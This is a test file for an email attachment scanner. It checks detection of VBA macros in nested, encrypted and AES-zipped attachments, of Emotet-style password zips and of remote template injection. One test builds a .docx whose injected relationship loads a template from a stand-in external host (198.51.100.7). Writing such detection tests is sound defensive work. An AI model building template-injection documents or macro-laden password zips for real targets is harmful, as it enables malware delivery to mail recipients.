import { passwordMail, PASSWORD, RCPT, SENDER } from '../helpers/ppap-mail.js';
import { readFileSync } from 'node:fs';
import path from 'node:path';
import iconv from 'iconv-lite';
import { afterAll, describe, expect, it } from 'vitest';
import { inspect } from '../../src/core/inspect.js';
import type { Verdict } from '../../src/core/verdict.js';
import { removeDir, sevenZip, tempDir } from '../helpers/archive-tools.js';
import { attachmentOf, mailOf, zipOf } from '../helpers/wrappings.js';
import { buildZip } from '../helpers/zip-writer.js';

const F = path.resolve(__dirname, '../fixtures');
const ENVELOPE = { mailFrom: 's@example.com', rcptTo: ['r@example.net'] };
const macroXlsm = () => attachmentOf(readFileSync(path.join(F, 'mail-spamassassin/olevbmacro/macro.eml')), 'macro.xlsm');
const macros = (v: Verdict) => v.findings.filter((f) => f.detector === 'macro');
const dir = tempDir('inspect');
afterAll(() => removeDir(dir));

describe('inspect(): the walk finds macros wherever the mail puts them', () => {
  it('inside an attached message (message/rfc822, base64-encoded, with a forwarded PPAP notice)', async () => {
    const inner = mailOf({ body: '添付のパスワードは「fw-2026」です。', attachments: [{ name: '請求書.zip', bytes: zipOf([{ name: '請求書.xlsm', bytes: macroXlsm() }], 'fw-2026') }] });
    const outer = mailOf({ body: '転送します。', attachments: [{ name: 'forward.eml', bytes: inner }] });
    const verdict = await inspect(ENVELOPE, outer);
    expect(macros(verdict)[0]?.evidence).toMatchObject({ part: '2/forward.eml/2/請求書.zip/請求書.xlsm', inner: 'xl/vbaProject.bin' });
    expect(verdict.findings.find((f) => f.code === 'encrypted-zip-opened')?.evidence['password_source']).toBe('mail');
  });

  it('in a zip sent as text/plain without a name', async () => {
    const zip = zipOf([{ name: 'x.xlsm', bytes: macroXlsm() }]);
    const mail = Buffer.from(
      `Subject: s\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\nContent-Type: text/plain\r\n\r\nhi\r\n--b\r\nContent-Type: text/plain\r\nContent-Transfer-Encoding: base64\r\n\r\n${zip.toString('base64')}\r\n--b--\r\n`,
    );
    expect(macros(await inspect(ENVELOPE, mail))[0]?.evidence['part']).toBe('2/x.xlsm');
  });

  it('in a WinZip AES (AE-2, 7-Zip) zip whose password the body states', async () => {
    for (const method of ['AES128', 'AES256'] as const) {
      const zip = sevenZip(dir, 'Aes-9ZQ', { '見積書.xlsm': macroXlsm() }, method, 5);
      const verdict = await inspect(ENVELOPE, mailOf({ body: 'パスワード：Aes-9ZQ', attachments: [{ name: '見積書.zip', bytes: zip }] }));
      expect(verdict.findings.map((f) => `${f.detector}/${f.code}`), method).toEqual(['archive/encrypted-zip-opened', 'macro/vba']);
      expect(macros(verdict)[0]?.evidence['part']).toBe('2/見積書.zip/見積書.xlsm');
    }
  });

  it('names CP932 (Japanese Windows) member names correctly in the evidence', async () => {
    const zip = buildZip([{ name: '請求書.xlsm', rawName: iconv.encode('請求書.xlsm', 'cp932'), content: macroXlsm() }]);
    const verdict = await inspect(ENVELOPE, mailOf({ body: 'x', attachments: [{ name: 'a.zip', bytes: zip }] }));
    expect(macros(verdict)[0]?.evidence['part']).toBe('2/a.zip/請求書.xlsm');
  });

  it('reports remote template injection in a real .docx package', async () => {
    const docx = readFileSync(path.join(F, 'office-oletools/msodde/harmless-clean.docx'));
    const rels = '<?xml version="1.0" encoding="UTF-8"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://198.51.100.7/invoice.dotm" TargetMode="External"/></Relationships>';
    // The clean document plus an external template relationship for its settings part.
    const unzipped = await import('yauzl').then(async (y) => {
      const zip = await y.default.fromBufferPromise(docx, { lazyEntries: true });
      const out: Array<{ name: string; content: Buffer }> = [];
      for await (const entry of zip.eachEntry()) {
        const chunks: Buffer[] = [];
        for await (const c of await zip.openReadStreamPromise(entry)) chunks.push(c as Buffer);
        out.push({ name: entry.fileName, content: Buffer.concat(chunks) });
      }
      return out;
    });
    const injected = buildZip([...unzipped, { name: 'word/_rels/settings.xml.rels', content: Buffer.from(rels) }]);
    const verdict = await inspect(ENVELOPE, mailOf({ body: 'x', attachments: [{ name: '契約書.docx', bytes: injected }] }));
    expect(macros(verdict)).toEqual([
      expect.objectContaining({ code: 'remote-template', severity: 'high', evidence: expect.objectContaining({ part: '2/契約書.docx', target: 'http://198.51.100.7/invoice.dotm' }) }),
    ]);
    expect(verdict.verdict).toBe('malicious');
    // The untouched document is clean.
    expect(macros(await inspect(ENVELOPE, mailOf({ body: 'x', attachments: [{ name: 'c.docx', bytes: docx }] })))).toEqual([]);
  });
});

describe('inspect(): password zips', () => {
  it('an encrypted zip with Office names that stays closed is the Emotet pattern: high, entries listed', async () => {
    const zip = zipOf([{ name: '請求書.xlsm', bytes: macroXlsm() }, { name: 'readme.txt', bytes: Buffer.from('x') }], 'not-stated');
    const verdict = await inspect(ENVELOPE, mailOf({ body: '別途お送りします。', attachments: [{ name: '請求書.zip', bytes: zip }] }));
    expect(verdict.findings).toEqual([
      expect.objectContaining({
        detector: 'archive',
        code: 'encrypted-office-zip',
        severity: 'high',
        evidence: expect.objectContaining({ part: '2/請求書.zip', encrypted: ['請求書.xlsm', 'readme.txt'], office_names: ['請求書.xlsm'] }),
      }),
    ]);
  });

  it('tries are bounded: the configured list is cut at max_password_tries', async () => {
    const zip = zipOf([{ name: 'a.txt', bytes: Buffer.from('x') }], 'the-right-one');
    const passwords = Array.from({ length: 50 }, (_, i) => `wrong-${i}`).concat('the-right-one');
    const mail = mailOf({ body: 'x', attachments: [{ name: 'a.zip', bytes: zip }] });
    const closed = await inspect(ENVELOPE, mail, { passwords, limits: { maxPasswordTries: 20 } });
    expect(closed.findings[0]).toMatchObject({ code: 'encrypted-zip', evidence: { passwords_tried: 20 } });
    const opened = await inspect(ENVELOPE, mail, { passwords: ['wrong', 'the-right-one'] });
    expect(opened.findings[0]).toMatchObject({ code: 'encrypted-zip-opened', evidence: { password_source: 'configured' } });
  });
});

describe('stated passwords for PPAP pairing', () => {
  const env = { mailFrom: SENDER, rcptTo: [RCPT] };
  it('are reported even when they are also configured, and even with a full try list', async () => {
    const many = Array.from({ length: 25 }, (_, i) => `configured-${i}`);
    const v = await inspect(env, passwordMail('p1'), { statedPasswords: true, passwords: [...many, PASSWORD] });
    expect(v.statedPasswords).toEqual([PASSWORD]);
    const alone = await inspect(env, passwordMail('p2'), { statedPasswords: true });
    expect(alone.statedPasswords).toEqual([PASSWORD]);
  });
});
